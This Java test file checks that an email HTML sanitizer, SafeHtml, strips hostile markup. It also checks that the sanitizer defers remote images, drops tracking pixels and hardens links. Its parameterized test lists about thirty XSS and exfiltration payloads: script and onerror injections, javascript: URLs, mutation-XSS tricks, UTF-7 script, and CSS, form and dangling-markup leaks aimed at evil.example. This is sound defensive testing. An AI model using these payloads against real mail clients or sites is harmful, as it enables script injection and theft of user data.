package dev.millrace.mail;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Locale;
import org.jsoup.Jsoup;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SafeHtmlTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "<svg onload=alert(1)><script>alert(1)</script></svg>",
                "<a href='javascript:alert(1)'>x</a>",
                "<a href=' &#1; java\tscript:alert(1)'>x</a>",
                "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
                "<a href='vbscript:x'>x</a>",
                "<iframe src='https://evil.example'></iframe>",
                "<object data='x.swf'></object><embed src='x.swf'>",
                "<form action='https://evil.example'><input name=password><button>Go</button></form>",
                "<meta http-equiv=refresh content='0;url=https://evil.example'>",
                "<base href='https://evil.example/'>",
                "<link rel=stylesheet href='https://evil.example/x.css'>",
                "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
                "<div style=\"background:url('https://evil.example/x')\">x</div>",
                "<div style='background-image:url(//evil.example/x)'>x</div>",
                "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999'>x</div>",
                "<div style='width:expression(alert(1));behavior:url(x);-moz-binding:url(x)'>x</div>",
                "<div style='list-style-image:url(https://evil.example/x);content:url(https://evil.example/y)'>x</div>",
                "<table background='https://evil.example/x'><tr><td>x</table>",
                "<img srcset='https://evil.example/x 2x' src='cid:none'>",
                "<video src='https://evil.example/x' poster='https://evil.example/y' autoplay></video>",
                "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
                "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
                "<img src=\"https://evil.example/?",
                "<a href=\"https://evil.example/?leak=",
                "<textarea><img src=x onerror=alert(1)></textarea>",
                "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
                "<div id=flash class='modal' name=x>x</div>",
                "<x-chart onclick=alert(1) hx-get='/tickets' data-remote-src='https://evil.example/x'>x</x-chart>",
                "<template shadowrootmode=open><script>alert(1)</script></template>",
                "<!--><img src=x onerror=alert(1)>-->",
                "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
            })
    void nothingRunsNothingSubmitsNothingLoads(String attack) {
        var safe = SafeHtml.of("<p>before</p>" + attack, _ -> null).html();

        var page = Jsoup.parseBodyFragment(safe);
        assertThat(
                        page.select(
                                "script,style,iframe,object,embed,form,input,button,meta,base,link,svg,math,video,textarea,template,x-chart"))
                .isEmpty();
        for (var element : page.body().getAllElements()) {
            for (var attribute : element.attributes()) {
                assertThat(attribute.getKey())
                        .doesNotStartWith("on")
                        .isNotIn("id", "class", "name", "srcset", "background", "hx-get", "src");
                assertThat(attribute.getValue().toLowerCase(Locale.ROOT))
                        .doesNotContain("javascript:", "vbscript:", "url(", "expression", "position", "data:text");
            }
        }
        assertThat(safe).contains("before");
    }

    @Test
    void remoteImagesWaitUntilAskedFor() {
        var safe = SafeHtml.of("<img src='https://example.org/a.png' alt='A chart' width=200>", _ -> null);

        var image = Jsoup.parseBodyFragment(safe.html()).selectFirst("img");
        assertThat(image).isNotNull();
        assertThat(image.hasAttr("src")).isFalse();
        assertThat(image.attr(SafeHtml.REMOTE_SOURCE)).isEqualTo("https://example.org/a.png");
        assertThat(image.attr("alt")).isEqualTo("A chart");
        assertThat(safe.remoteImages()).isOne();
    }

    @Test
    void trackersAreDroppedAndCounted() {
        var safe = SafeHtml.of("<p>x</p><img src='https://example.org/open.gif' width=1 height=1>", _ -> null);

        assertThat(safe.html()).doesNotContain("open.gif");
        assertThat(safe.trackers()).isOne();
        assertThat(safe.remoteImages()).isZero();
    }

    @Test
    void inlineImagesAreServedByUs() {
        var safe = SafeHtml.of(
                "<img src='cid:shot@1'><img src='cid:gone'>", cid -> cid.equals("shot@1") ? "/files/7" : null);

        assertThat(Jsoup.parseBodyFragment(safe.html()).select("img"))
                .singleElement()
                .extracting(image -> image.attr("src"))
                .isEqualTo("/files/7");
    }

    @Test
    void linksOpenElsewhereAndTellNothing() {
        var link = Jsoup.parseBodyFragment(
                        SafeHtml.of("<a href='https://example.org' target=_top rel=opener>x</a>", _ -> null)
                                .html())
                .selectFirst("a");

        assertThat(link).isNotNull();
        assertThat(link.attr("target")).isEqualTo("_blank");
        assertThat(link.attr("rel").split(" ")).containsExactlyInAnyOrder("noopener", "noreferrer", "nofollow");
    }

    @Test
    void whatMakesAMailReadableStays() {
        var safe = SafeHtml.of(
                        "<h2>Hi</h2><table border=1><tr><td colspan=2 style='color:red;text-align:right'>x</td></tr></table><ul><li>y</ul><pre>z</pre>",
                        _ -> null)
                .html();

        assertThat(safe).contains("<h2>Hi</h2>", "colspan=\"2\"", "color:red", "<li>y</li>", "<pre>z</pre>");
    }
}
